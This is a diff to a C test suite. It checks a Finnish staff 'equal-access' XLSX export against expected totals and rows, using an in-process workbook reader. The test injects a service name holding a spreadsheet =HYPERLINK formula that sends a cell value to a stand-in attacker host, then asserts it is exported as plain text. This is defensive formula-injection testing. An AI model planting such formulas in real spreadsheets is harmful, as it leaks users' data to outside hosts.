@@ -12,6 +12,7 @@
 #include <string.h>
 #include <unistd.h>
 #include "testsrv.h"
+#include "xlsxread.h"
 #include "equality/equality.h"
 
 static testsrv srv;
@@ -245,62 +246,81 @@ static void csv_matches_the_table(void **state)
     tclient_free(&c);
 }
 
-static char *run_unzip(const char *file, const char *member)
+static const char *cell_text(json_t *book, size_t sheet, size_t y, size_t x)
 {
-    char cmd[512];
-    snprintf(cmd, sizeof cmd, "unzip -p '%s' '%s'", file, member);
-    FILE *f = popen(cmd, "r");
-    assert_non_null(f);
-    buf b = BUF_INIT;
-    char chunk[4096];
-    size_t n;
-    while ((n = fread(chunk, 1, sizeof chunk, f)) > 0) buf_append(&b, chunk, n);
-    assert_int_equal(pclose(f), 0);
-    buf_putc(&b, '\0');
-    return buf_detach(&b, NULL);
+    json_t *v = xlsx_cell(book, sheet, y, x);
+    assert_true(json_is_string(v));
+    return json_string_value(v);
+}
+
+static long long cell_number(json_t *book, size_t sheet, size_t y, size_t x)
+{
+    json_t *v = xlsx_cell(book, sheet, y, x);
+    assert_true(json_is_integer(v));
+    return json_integer_value(v);
+}
+
+static json_t *download_xlsx(tclient *c)
+{
+    tresp r;
+    http_get(c, "/fi/staff/equal-access.xlsx", NULL, &r);
+    assert_int_equal(r.status, 200);
+    assert_memory_equal(r.body.data, "PK", 2);
+    json_t *book = xlsx_read(r.body.data, r.body.len);
+    tresp_free(&r);
+    return book;
 }
 
 static void xlsx_has_the_same_numbers(void **state)
 {
     (void)state;
-    if (system("command -v unzip >/dev/null 2>&1") != 0) skip();
     tclient c;
     tclient_init(&c, &srv);
     staff_login(&c, "fi");
-    tresp r;
-    http_get(&c, "/fi/staff/equal-access.xlsx", NULL, &r);
-    assert_int_equal(r.status, 200);
-    assert_true(r.body.len > 100);
-    assert_memory_equal(r.body.data, "PK", 2);
-    char path[] = "/tmp/kohtaamo-test-xlsx-XXXXXX";
-    int fd = mkstemp(path);
-    assert_true(fd >= 0);
-    assert_int_equal(write(fd, r.body.data, r.body.len), (ssize_t)r.body.len);
-    close(fd);
-    char *totals = run_unzip(path, "xl/worksheets/sheet2.xml");
-    char *cells = run_unzip(path, "xl/worksheets/sheet1.xml");
-    char *strings = run_unzip(path, "xl/sharedStrings.xml");
-    unlink(path);
-    /* Totals: missing 5, below 1, not in Swedish 1, ok 2, cells 9, in that order (column B) */
-    const char *want[5] = {"<c r=\"B2\"", "<c r=\"B3\"", "<c r=\"B4\"", "<c r=\"B5\"", "<c r=\"B6\""};
-    const char *vals[5] = {"<v>5</v>", "<v>1</v>", "<v>1</v>", "<v>2</v>", "<v>9</v>"};
-    for (int i = 0; i < 5; i++) {
-        const char *cpos = strstr(totals, want[i]);
-        assert_non_null(cpos);
-        const char *end = strstr(cpos, "</c>");
-        assert_non_null(end);
-        char one[128];
-        snprintf(one, sizeof one, "%.*s", (int)(end - cpos), cpos);
-        assert_non_null(strstr(one, vals[i]));
+    json_t *book = download_xlsx(&c);
+    json_t *sheets = json_object_get(book, "sheets");
+    assert_int_equal(json_array_size(sheets), 2);
+    /* Totals: missing 5, below 1, not in Swedish 1, ok 2, cells 9, in that order, as numbers */
+    assert_string_equal(cell_text(book, 1, 0, 1), "Soluja");
+    const long long totals[5] = {5, 1, 1, 2, 9};
+    for (size_t i = 0; i < 5; i++) {
+        assert_true(json_is_string(xlsx_cell(book, 1, i + 1, 0)));
+        assert_int_equal(cell_number(book, 1, i + 1, 1), totals[i]);
     }
-    assert_non_null(strstr(cells, "<c r=\"H10\""));   /* header + 9 rows */
-    assert_null(strstr(cells, "<c r=\"A11\""));
-    assert_non_null(strstr(strings, "Perheneuvola"));
-    assert_non_null(strstr(strings, "Ei ruotsiksi"));
-    free(totals);
-    free(cells);
-    free(strings);
-    tresp_free(&r);
+    /* the matrix: a header and 9 rows of 8 columns, the same as the CSV */
+    json_t *rows = json_object_get(json_array_get(sheets, 0), "rows");
+    assert_int_equal(json_array_size(rows), 10);
+    assert_string_equal(cell_text(book, 0, 0, 0), "Palvelu");
+    assert_string_equal(cell_text(book, 0, 0, 7), "Ei ruotsiksi");
+    bool fam_raasepori = false;
+    long long missing = 0;
+    for (size_t y = 1; y < 10; y++) {
+        assert_int_equal(json_array_size(json_array_get(rows, y)), 8);
+        missing += cell_number(book, 0, y, 5);
+        if (strcmp(cell_text(book, 0, y, 0), "Perheneuvola") == 0 && strcmp(cell_text(book, 0, y, 2), "710") == 0) {
+            fam_raasepori = true;
+            assert_string_equal(cell_text(book, 0, y, 3), "Paikan päällä ajanvarauksella");
+            assert_int_equal(cell_number(book, 0, y, 7), 1);
+        }
+    }
+    assert_true(fam_raasepori);
+    assert_int_equal(missing, 5);
+    for (size_t i = 0; i < 2; i++)
+        assert_int_equal(json_array_size(json_object_get(json_array_get(sheets, i), "formulas")), 0);
+    json_decref(book);
+    /* a service named like a formula is text in the workbook, never a formula */
+    db *d = testsrv_db(&srv);
+    db_param evil[] = {DB_TEXT("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")")};
+    testdb_exec(d, "UPDATE services SET name_fi = $1 WHERE code = 'diab'", 1, evil);
+    book = download_xlsx(&c);
+    testdb_exec(d, "UPDATE services SET name_fi = 'Diabeteshoitaja' WHERE code = 'diab'", 0, NULL);
+    db_close(d);
+    int seen = 0;
+    for (size_t y = 1; y < 10; y++)
+        if (strcmp(cell_text(book, 0, y, 0), "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")") == 0) seen++;
+    assert_int_equal(seen, 3);
+    assert_int_equal(json_array_size(json_object_get(json_array_get(json_object_get(book, "sheets"), 0), "formulas")), 0);
+    json_decref(book);
     tclient_free(&c);
 }
 
